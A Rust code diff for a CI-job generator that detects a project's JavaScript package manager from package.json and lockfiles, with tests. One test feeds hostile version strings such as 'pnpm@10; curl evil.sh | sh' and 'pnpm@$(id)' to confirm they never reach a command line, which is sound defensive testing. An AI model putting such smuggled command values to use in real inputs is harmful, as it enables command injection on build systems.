@@ -30,6 +30,11 @@ pub(crate) enum PackageManager {
     /// Bun (`oven-sh/setup-bun`, Bun docs, CI/CD): `bun install --frozen-lockfile`; the tests
     /// run as `bun run test`, the `test` script (`bun test` is Bun's own test runner).
     Bun,
+    /// pnpm, Yarn or Bun named by `packageManager` in a folder without its lockfile: installed
+    /// without freezing one that is not there (`pnpm install --frozen-lockfile` refuses to
+    /// run without `pnpm-lock.yaml`, Yarn 2+ refuses to create `yarn.lock` on CI unless
+    /// immutable installs are off: `YARN_ENABLE_IMMUTABLE_INSTALLS`, Yarn docs, yarnrc).
+    Unlocked(Box<PackageManager>),
 }
 
 /// pnpm's major version when nothing pins one.
@@ -39,18 +44,31 @@ impl PackageManager {
     /// The package manager of the project in `dir`.
     #[must_use]
     pub(crate) fn of(dir: &Path) -> PackageManager {
-        // A regular file only (a FIFO would wait for a writer), read as every input is:
-        // bounded, so a huge one does not fill memory.
-        let path = dir.join("package.json");
-        let package_json = path
-            .is_file()
-            .then(|| crate::input::read_bounded(&path).ok())
-            .flatten()
-            .map(|bytes| String::from_utf8_lossy(&bytes).into_owned());
-        if let Some(pm) = package_json.as_deref().and_then(declared) {
-            return pm;
-        }
+        // Read by convention: a regular file within the input bound, else as if absent (a
+        // FIFO or a link to `/dev/zero` is never waited on or read without end).
+        let package_json = crate::input::read_convention_file(&dir.join("package.json"));
         let has = |f: &str| dir.join(f).is_file();
+        let npm_lockfile = has("package-lock.json") || has("npm-shrinkwrap.json");
+        match package_json.as_deref().and_then(declared) {
+            // `npm ci` needs the lockfile, whatever the field says.
+            Some(PackageManager::Npm) if !npm_lockfile => {
+                return PackageManager::NpmWithoutLockfile;
+            }
+            Some(pm) => {
+                let locked = match pm {
+                    PackageManager::Pnpm(_) => has("pnpm-lock.yaml"),
+                    PackageManager::YarnClassic | PackageManager::YarnBerry => has("yarn.lock"),
+                    PackageManager::Bun => has("bun.lock") || has("bun.lockb"),
+                    _ => true,
+                };
+                return if locked {
+                    pm
+                } else {
+                    PackageManager::Unlocked(Box::new(pm))
+                };
+            }
+            None => {}
+        }
         if has("pnpm-lock.yaml") {
             PackageManager::Pnpm(None)
         } else if has("yarn.lock") {
@@ -61,7 +79,7 @@ impl PackageManager {
             }
         } else if has("bun.lock") || has("bun.lockb") {
             PackageManager::Bun
-        } else if has("package-lock.json") || has("npm-shrinkwrap.json") || package_json.is_none() {
+        } else if npm_lockfile || package_json.is_none() {
             PackageManager::Npm
         } else {
             PackageManager::NpmWithoutLockfile
@@ -87,6 +105,20 @@ impl PackageManager {
                 "yarn install --immutable".to_owned(),
             ],
             PackageManager::Bun => vec!["bun install --frozen-lockfile".to_owned()],
+            PackageManager::Unlocked(pm) => pm
+                .install()
+                .into_iter()
+                .map(|c| match c.as_str() {
+                    "pnpm install --frozen-lockfile" | "yarn install --frozen-lockfile" => {
+                        c.replace(" --frozen-lockfile", "")
+                    }
+                    "yarn install --immutable" => {
+                        "YARN_ENABLE_IMMUTABLE_INSTALLS=false yarn install".to_owned()
+                    }
+                    "bun install --frozen-lockfile" => "bun install".to_owned(),
+                    _ => c,
+                })
+                .collect(),
         }
     }
 
@@ -98,24 +130,40 @@ impl PackageManager {
             PackageManager::Pnpm(_) => "pnpm test",
             PackageManager::YarnClassic | PackageManager::YarnBerry => "yarn test",
             PackageManager::Bun => "bun run test",
+            PackageManager::Unlocked(pm) => pm.test(),
+        }
+    }
+
+    /// The command that adds a dependency to `package.json` and the lockfile (npm docs:
+    /// `npm install <pkg>`; pnpm, Yarn and Bun docs: `add`), for the guide: `npm install` in
+    /// a pnpm or Bun project would write a `package-lock.json` beside their lockfile.
+    #[must_use]
+    pub(crate) fn add(&self) -> &'static str {
+        match self {
+            PackageManager::Npm | PackageManager::NpmWithoutLockfile => "npm install",
+            PackageManager::Pnpm(_) => "pnpm add",
+            PackageManager::YarnClassic | PackageManager::YarnBerry => "yarn add",
+            PackageManager::Bun => "bun add",
+            PackageManager::Unlocked(pm) => pm.add(),
         }
     }
 
     /// Whether the job sets Bun up (`oven-sh/setup-bun@v2`).
     #[must_use]
     pub(crate) fn is_bun(&self) -> bool {
-        *self == PackageManager::Bun
+        match self {
+            PackageManager::Unlocked(pm) => pm.is_bun(),
+            pm => *pm == PackageManager::Bun,
+        }
     }
 }
 
-/// The manager `package.json`'s `packageManager` field names (`"pnpm@10.2.0+sha512.abc"`):
-/// its version kept only when it is a plain version (digits, letters, dots and dashes), since
-/// it goes into a command line of the job.
+/// The manager `package.json`'s top-level `packageManager` field names
+/// (`"pnpm@10.2.0+sha512.abc"`): its version kept only when it is a plain version (digits,
+/// letters, dots and dashes), since it goes into a command line of the job. The same key
+/// inside another object (`devEngines.packageManager`) or inside a string is not the field.
 fn declared(package_json: &str) -> Option<PackageManager> {
-    let at = package_json.find("\"packageManager\"")?;
-    let rest = package_json[at + "\"packageManager\"".len()..].trim_start();
-    let rest = rest.strip_prefix(':')?.trim_start().strip_prefix('"')?;
-    let value = &rest[..rest.find('"')?];
+    let value = top_level_string(package_json, "packageManager")?;
     let (name, version) = value.split_once('@').unwrap_or((value, ""));
     let version = version.split('+').next().unwrap_or_default();
     let plain = !version.is_empty()
@@ -135,6 +183,61 @@ fn declared(package_json: &str) -> Option<PackageManager> {
         "npm" => PackageManager::Npm,
         _ => return None,
     })
+}
+
+/// The string value of `key` in the outermost object of JSON `text`, as written (escapes
+/// left in, which no plain version has); `None` when the key is not there, its value is not a
+/// string, or the text ends first. Read without a JSON crate (the library has none): strings
+/// are skipped whole, and only a string at depth one followed by `:` is a key.
+fn top_level_string<'a>(text: &'a str, key: &str) -> Option<&'a str> {
+    let bytes = text.as_bytes();
+    // The end (one past the closing quote) of the string that opens at `at`.
+    let string_end = |at: usize| -> Option<usize> {
+        let mut i = at + 1;
+        while i < bytes.len() {
+            match bytes[i] {
+                b'\\' => i += 2,
+                b'"' => return Some(i + 1),
+                _ => i += 1,
+            }
+        }
+        None
+    };
+    let skip_space = |mut i: usize| {
+        while bytes.get(i).is_some_and(u8::is_ascii_whitespace) {
+            i += 1;
+        }
+        i
+    };
+    let (mut depth, mut i) = (0usize, 0usize);
+    while i < bytes.len() {
+        match bytes[i] {
+            b'"' => {
+                let end = string_end(i)?;
+                let name = &text[i + 1..end - 1];
+                i = end;
+                let colon = skip_space(i);
+                if depth == 1 && bytes.get(colon) == Some(&b':') {
+                    i = skip_space(colon + 1);
+                    if name == key {
+                        return (bytes.get(i) == Some(&b'"'))
+                            .then(|| string_end(i).map(|end| &text[i + 1..end - 1]))
+                            .flatten();
+                    }
+                }
+            }
+            b'{' | b'[' => {
+                depth += 1;
+                i += 1;
+            }
+            b'}' | b']' => {
+                depth = depth.saturating_sub(1);
+                i += 1;
+            }
+            _ => i += 1,
+        }
+    }
+    None
 }
 
 #[cfg(test)]
@@ -212,25 +315,26 @@ mod tests {
         assert_eq!(
             of(&[
                 ("package.json", &pkg("pnpm@10.28.2+sha512.0a1b")),
-                ("package-lock.json", "{}")
+                ("package-lock.json", "{}"),
+                ("pnpm-lock.yaml", "")
             ]),
             PackageManager::Pnpm(Some("10.28.2".to_owned()))
         );
         assert_eq!(
-            of(&[("package.json", &pkg("yarn@4.5.0"))]),
+            of(&[("package.json", &pkg("yarn@4.5.0")), ("yarn.lock", "")]),
             PackageManager::YarnBerry
         );
         assert_eq!(
-            of(&[("package.json", &pkg("yarn@1.22.22"))]),
+            of(&[("package.json", &pkg("yarn@1.22.22")), ("yarn.lock", "")]),
             PackageManager::YarnClassic
         );
         assert_eq!(
-            of(&[("package.json", &pkg("bun@1.3.3"))]),
+            of(&[("package.json", &pkg("bun@1.3.3")), ("bun.lockb", "")]),
             PackageManager::Bun
         );
         // Not a version: nothing of it reaches the job's command line.
         for hostile in ["pnpm@10; curl evil.sh | sh", "pnpm@$(id)", "pnpm@"] {
-            let pm = of(&[("package.json", &pkg(hostile))]);
+            let pm = of(&[("package.json", &pkg(hostile)), ("pnpm-lock.yaml", "")]);
             assert_eq!(pm, PackageManager::Pnpm(None), "{hostile}");
             assert_eq!(pm.install()[0], "npm install --global pnpm@10");
         }
@@ -238,6 +342,114 @@ mod tests {
         assert_eq!(
             of(&[("package.json", &pkg("deno@2")), ("yarn.lock", "")]),
             PackageManager::YarnClassic
+        );
+    }
+
+    /// Only the top-level field counts: `devEngines.packageManager` (an object) or the words
+    /// inside a script are not it, and the field after them still is.
+    #[test]
+    fn only_the_top_level_package_manager_field_names_the_manager() {
+        let text = r#"{
+  "name": "app",
+  "scripts": { "which": "node -p \"require('./package.json').packageManager\"" },
+  "devEngines": { "packageManager": { "name": "yarn", "onFail": "warn" } },
+  "packageManager": "yarn@4.5.3"
+}"#;
+        assert_eq!(
+            of(&[("package.json", text), ("yarn.lock", "")]),
+            PackageManager::YarnBerry
+        );
+        assert_eq!(top_level_string(text, "name"), Some("app"));
+        assert_eq!(
+            top_level_string(r#"{"packageManager": 4}"#, "packageManager"),
+            None
+        );
+        assert_eq!(
+            top_level_string(r#"{"packageManager": "pnpm@9"#, "packageManager"),
+            None
+        );
+        assert_eq!(
+            top_level_string(
+                r#"{"a": "\"packageManager\": \"pnpm@9\""}"#,
+                "packageManager"
+            ),
+            None
+        );
+    }
+
+    /// `npm ci` fails without `package-lock.json`: a field naming npm in a project that has
+    /// none installs with `npm install`.
+    #[test]
+    fn npm_named_by_the_field_without_a_lockfile_installs_without_ci() {
+        let pkg = r#"{ "name": "app", "packageManager": "npm@10.9.2" }"#;
+        assert_eq!(
+            of(&[("package.json", pkg)]),
+            PackageManager::NpmWithoutLockfile
+        );
+        assert_eq!(
+            of(&[("package.json", pkg), ("package-lock.json", "{}")]),
+            PackageManager::Npm
+        );
+    }
+
+    /// `package.json` is read as every input is, bounded: past 8 MiB, binary or not a regular
+    /// file (a FIFO, which would block the read forever), it is as if absent.
+    #[test]
+    fn an_oversized_binary_or_special_package_json_is_not_read() {
+        let mut big = String::from(r#"{ "packageManager": "yarn@4.5.3", "description": ""#);
+        big.push_str(&"x".repeat(9 * 1024 * 1024));
+        big.push_str("\" }");
+        assert_eq!(
+            of(&[("package.json", &big), ("yarn.lock", "")]),
+            PackageManager::YarnClassic
+        );
+        let binary = "{ \"packageManager\": \"yarn@4.5.3\" }\0";
+        assert_eq!(
+            of(&[("package.json", binary), ("yarn.lock", "")]),
+            PackageManager::YarnClassic
+        );
+        #[cfg(unix)]
+        {
+            let dir = folder(&[("yarn.lock", "")]);
+            let made = std::process::Command::new("mkfifo")
+                .arg(dir.join("package.json"))
+                .status()
+                .expect("mkfifo runs");
+            assert!(made.success());
+            assert_eq!(PackageManager::of(&dir), PackageManager::YarnClassic);
+            std::fs::remove_dir_all(dir).unwrap();
+        }
+    }
+
+    /// A manager named by the field in a folder without its lockfile installs without
+    /// freezing it (a frozen install fails there); its test command stays its own.
+    #[test]
+    fn a_named_manager_without_its_lockfile_installs_without_freezing_it() {
+        let pkg = |pm: &str| format!(r#"{{ "name": "app", "packageManager": "{pm}" }}"#);
+        let pnpm = of(&[("package.json", &pkg("pnpm@9.15.0"))]);
+        assert_eq!(
+            pnpm.install(),
+            ["npm install --global pnpm@9.15.0", "pnpm install"]
+        );
+        assert_eq!(pnpm.test(), "pnpm test");
+        assert_eq!(
+            of(&[("package.json", &pkg("yarn@4.5.3"))]).install(),
+            [
+                "corepack enable",
+                "YARN_ENABLE_IMMUTABLE_INSTALLS=false yarn install"
+            ]
+        );
+        assert_eq!(
+            of(&[("package.json", &pkg("yarn@1.22.22"))]).install(),
+            ["yarn install"]
+        );
+        let bun = of(&[("package.json", &pkg("bun@1.3.3"))]);
+        assert_eq!(bun.install(), ["bun install"]);
+        assert!(bun.is_bun() && bun.add() == "bun add");
+        // With the lockfile: frozen.
+        assert_eq!(
+            of(&[("package.json", &pkg("bun@1.3.3")), ("bun.lock", "{}")]).install(),
+            ["bun install --frozen-lockfile"]
         );
     }
 
